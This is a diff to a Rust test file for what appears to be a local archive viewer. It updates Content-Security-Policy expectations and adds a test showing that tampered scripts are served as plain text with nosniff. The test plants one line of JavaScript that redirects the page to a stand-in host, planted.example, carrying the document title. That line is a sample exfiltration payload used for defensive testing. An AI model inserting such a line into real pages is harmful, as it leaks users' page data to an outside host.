@@ -271,6 +271,7 @@ fn every_answer_keeps_what_it_holds_where_it_is() {
     let path = |entry: Option<&String>| format!("/{}", entry.unwrap());
     let ours = "default-src 'none'; img-src 'self'; style-src 'self'; base-uri 'none'; form-action 'self'; frame-ancestors 'none'";
     let page = "default-src 'none'; img-src 'self' data:; media-src 'self'; style-src 'self' 'unsafe-inline'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'";
+    let list = "default-src 'none'; img-src 'self'; media-src 'self'; style-src 'self'; script-src 'self'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'";
     let file = "default-src 'none'; img-src 'self' data:; media-src 'self'; style-src 'unsafe-inline'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'";
     let document = "default-src 'none'; img-src data:; style-src 'unsafe-inline'; sandbox; frame-ancestors 'none'";
     let table = [
@@ -294,7 +295,25 @@ fn every_answer_keeps_what_it_holds_where_it_is() {
             "/data/index.html".to_owned(),
             200,
             "text/html; charset=utf-8",
-            page,
+            list,
+        ),
+        (
+            "/data/view/images-0001.html".to_owned(),
+            200,
+            "text/html; charset=utf-8",
+            list,
+        ),
+        (
+            "/data/view/view.js".to_owned(),
+            200,
+            "text/javascript; charset=utf-8",
+            document,
+        ),
+        (
+            "/data/view/titles-0001.js".to_owned(),
+            200,
+            "text/javascript; charset=utf-8",
+            document,
         ),
         (path(article), 200, "text/html; charset=utf-8", page),
         (
@@ -723,8 +742,11 @@ fn the_coverage_tells_what_the_pages_inside_cannot() {
     assert!(start.text().contains("action=\"/search\""));
 }
 
-#[test]
-fn an_archive_that_another_program_packed_is_shown_with_a_warning() {
+/// The sample packed anew by another program, each entry as `change` makes it;
+/// and the names of its entries.
+fn repacked(
+    change: impl Fn(&str, Vec<u8>) -> Vec<u8>,
+) -> (tempfile::TempDir, PathBuf, Vec<String>) {
     let folder = tempfile::tempdir().unwrap();
     let path = folder.path().join("repacked.zip");
     let mut from = zip::ZipArchive::new(std::io::Cursor::new(&sample().bytes)).unwrap();
@@ -737,10 +759,44 @@ fn an_archive_that_another_program_packed_is_shown_with_a_warning() {
             .compression_method(zip::CompressionMethod::Stored)
             .last_modified_time(zip::DateTime::from_date_and_time(2020, 2, 2, 2, 2, 2).unwrap());
         to.start_file(name.as_str(), options).unwrap();
-        std::io::copy(&mut entry, &mut to).unwrap();
-        names.push(name.split_once('/').unwrap().1.to_owned());
+        let mut bytes = Vec::new();
+        entry.read_to_end(&mut bytes).unwrap();
+        let name = name.split_once('/').unwrap().1.to_owned();
+        to.write_all(&change(&name, bytes)).unwrap();
+        names.push(name);
     }
     to.finish().unwrap();
+    (folder, path, names)
+}
+
+#[test]
+fn a_script_that_is_not_ours_is_text() {
+    let evil = b"location='http://planted.example/?'+document.title;\n".to_vec();
+    let (_folder, path, _) = repacked(|name, bytes| match name {
+        "data/view/view.js" => evil.clone(),
+        "data/view/titles-0001.js" => [bytes, evil.clone()].concat(),
+        _ => bytes,
+    });
+    let visit = Visit::to(&path);
+    for (name, mime) in [
+        ("view.js", "text/plain; charset=utf-8"),
+        ("titles-0001.js", "text/plain; charset=utf-8"),
+        ("texts-0001.js", "text/javascript; charset=utf-8"),
+    ] {
+        let answer = visit.gets(&format!("/data/view/{name}"));
+        assert_eq!(
+            (answer.status, answer.header("content-type")),
+            (200, Some(mime)),
+            "{name}"
+        );
+        // With this no browser takes text for a script.
+        assert_eq!(answer.header("x-content-type-options"), Some("nosniff"));
+    }
+}
+
+#[test]
+fn an_archive_that_another_program_packed_is_shown_with_a_warning() {
+    let (_folder, path, names) = repacked(|_, bytes| bytes);
     let saved = Saved::at(&sample().archive);
     let visit = Visit::to(&path);
     for name in names.iter().filter(|name| name.starts_with("data/")) {
